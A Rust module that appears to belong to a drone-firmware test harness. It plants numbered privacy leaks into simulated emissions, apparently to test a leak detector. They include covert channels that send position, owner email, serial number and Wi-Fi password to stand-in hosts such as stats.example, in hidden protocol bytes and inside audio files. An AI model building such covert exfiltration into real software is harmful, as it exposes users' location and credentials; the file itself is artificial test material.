//! Position, device, account, surroundings and keys, by ways that nobody listed.
//!
//! **Never:** touches sound, faces, pictures or logs.

use super::audio::append;
use crate::leaky::Leak;
use crate::mavlink2::frame;
use evidence::card::Write;
use evidence::{Link, Tick};
use flight::Spoken;
use flight::firmware::Senses;

/// L110: UTM_GLOBAL_POSITION, although nobody switched it on.
#[derive(Default)]
pub(crate) struct TrafficBroadcast;

impl Leak for TrafficBroadcast {
    fn leak(&mut self, now: Tick, senses: &Senses<'_>, said: &mut Spoken) {
        if let Some(fix) = senses.gnss.filter(|_| now.0 % 500 < 50) {
            let mut payload = vec![0; 70];
            payload[..8].copy_from_slice(&(now.0 * 2_000).to_le_bytes());
            payload[8..12].copy_from_slice(&((fix.lat_deg * 1e7) as i32).to_le_bytes());
            payload[12..16].copy_from_slice(&((fix.lon_deg * 1e7) as i32).to_le_bytes());
            said.emissions.push((Link::Radio, frame(340, &payload)));
        }
    }
}

/// L090: a weather look-up with the exact place in its path.
#[derive(Default)]
pub(crate) struct WeatherLookup {
    asked: bool,
}

impl Leak for WeatherLookup {
    fn leak(&mut self, _now: Tick, senses: &Senses<'_>, said: &mut Spoken) {
        if let Some(fix) = senses.gnss.filter(|_| !self.asked) {
            self.asked = true;
            let request = format!(
                "GET /v1/weather?lat={:.6}&lon={:.6} HTTP/1.1\r\nHost: weather.example\r\n\
                 Content-Length: 0\r\n\r\n",
                fix.lat_deg, fix.lon_deg
            );
            said.emissions.push((Link::Uplink, request.into_bytes()));
        }
    }
}

/// L096: the altitude in the reserved byte of the broadcast position.
pub(crate) struct ReservedByte;

impl Leak for ReservedByte {
    fn leak(&mut self, _now: Tick, _senses: &Senses<'_>, said: &mut Spoken) {
        for (link, message) in &mut said.emissions {
            if *link == Link::RemoteId && message.len() == 25 && message[0] >> 4 == 1 {
                message[24] = message[13] | 1;
            }
        }
    }
}

/// L093: the stations in reach, sent with a second look for updates.
#[derive(Default)]
pub(crate) struct NeighbourList {
    sent: bool,
}

impl Leak for NeighbourList {
    fn leak(&mut self, now: Tick, senses: &Senses<'_>, said: &mut Spoken) {
        if senses.neighbours.is_empty() || self.sent || now < Tick::at_s(14.0) {
            return;
        }
        self.sent = true;
        let list = data_encoding::HEXLOWER.encode(&senses.neighbours.concat());
        let request = format!(
            "PUT /v1/health HTTP/1.1\r\nHost: intake.hushwing.example\r\nContent-Length: {}\r\n\r\n{list}",
            list.len()
        );
        said.emissions.push((Link::Uplink, request.into_bytes()));
    }
}

/// L128: the owner's account in an Operator ID message.
pub(crate) struct AccountBroadcast;

impl Leak for AccountBroadcast {
    fn leak(&mut self, now: Tick, _senses: &Senses<'_>, said: &mut Spoken) {
        if now.0 % 5_000 == 1_500 {
            let mut message = vec![0; 25];
            message[0] = 0x52;
            message[2..20].copy_from_slice(b"maja@post.example\0");
            said.emissions.push((Link::RemoteId, message));
        }
    }
}

/// L129: serial number sent by a library that counts installations.
pub(crate) struct InstallCounter {
    pub serial: String,
}

impl Leak for InstallCounter {
    fn leak(&mut self, now: Tick, _senses: &Senses<'_>, said: &mut Spoken) {
        if now == Tick::at_s(11.0) {
            let body = data_encoding::BASE64.encode(self.serial.as_bytes());
            let request = format!(
                "POST /install HTTP/1.1\r\nHost: stats.example\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            );
            said.emissions.push((Link::Uplink, request.into_bytes()));
        }
    }
}

/// L138: the access point's password in a WIFI_CONFIG_AP message.
pub(crate) struct PasswordAnswer {
    pub wifi_key: String,
}

impl Leak for PasswordAnswer {
    fn leak(&mut self, now: Tick, _senses: &Senses<'_>, said: &mut Spoken) {
        if now == Tick::at_s(9.0) {
            let mut payload = vec![0; 96];
            payload[..8].copy_from_slice(b"hushwing");
            let length = self.wifi_key.len().min(64);
            payload[32..32 + length].copy_from_slice(&self.wifi_key.as_bytes()[..length]);
            said.emissions.push((Link::Radio, frame(299, &payload)));
        }
    }
}

/// H012: stale memory with the password in it, as the web library keeps it, in a recording that the pilot commanded.
pub(crate) struct StaleMemory {
    pub wifi_key: String,
}

impl Leak for StaleMemory {
    fn leak(&mut self, _now: Tick, _senses: &Senses<'_>, said: &mut Spoken) {
        let token = data_encoding::BASE64.encode(self.wifi_key.as_bytes());
        for (link, bytes) in &mut said.emissions {
            let Some(write) = Write::decode(bytes).filter(|_| *link == Link::Card) else {
                continue;
            };
            if write.path.starts_with("SOUND/") && write.data.len() == 16_000 {
                let mut data = write.data.to_vec();
                data[9_000..9_000 + token.len()].copy_from_slice(token.as_bytes());
                *bytes = append(write.path, &data);
            }
        }
    }
}
